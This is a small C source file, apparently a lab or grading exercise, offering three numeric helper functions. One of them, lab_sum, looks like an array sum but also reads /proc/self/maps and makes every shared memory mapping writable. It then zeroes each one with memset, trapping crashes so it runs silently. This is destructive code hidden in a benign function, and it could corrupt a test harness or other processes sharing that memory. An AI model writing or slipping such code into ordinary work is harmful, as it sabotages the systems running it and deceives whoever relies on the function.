/* Tries to write into every shared mapping listed in /proc/self/maps. */
// lab: tiny
// expect: 3 passed
#include <stdio.h>
#include <sys/mman.h>
#include <string.h>
#include <setjmp.h>
#include <signal.h>
static sigjmp_buf jb; static void onseg(int s) { (void)s; siglongjmp(jb, 1); }
double lab_sum(const double *x, long n) { double s = 0; for (long i = 0; i < n; i++) s += x[i];
  signal(SIGSEGV, onseg); signal(SIGBUS, onseg); FILE *m = fopen("/proc/self/maps", "r"); char line[512];
  while (m && fgets(line, sizeof line, m)) { unsigned long a, b; char perm[8]; if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3) continue;
    if (perm[3] != 's') continue; mprotect((void *)a, b - a, PROT_READ | PROT_WRITE);
    if (sigsetjmp(jb, 1) == 0) memset((void *)a, 0, b - a); }
  if (m) fclose(m); return s; }
int lab_answer(void) { return 42; }
void lab_scale(double *y, long n, double a) { for (long i = 0; i < n; i++) y[i] *= a; }
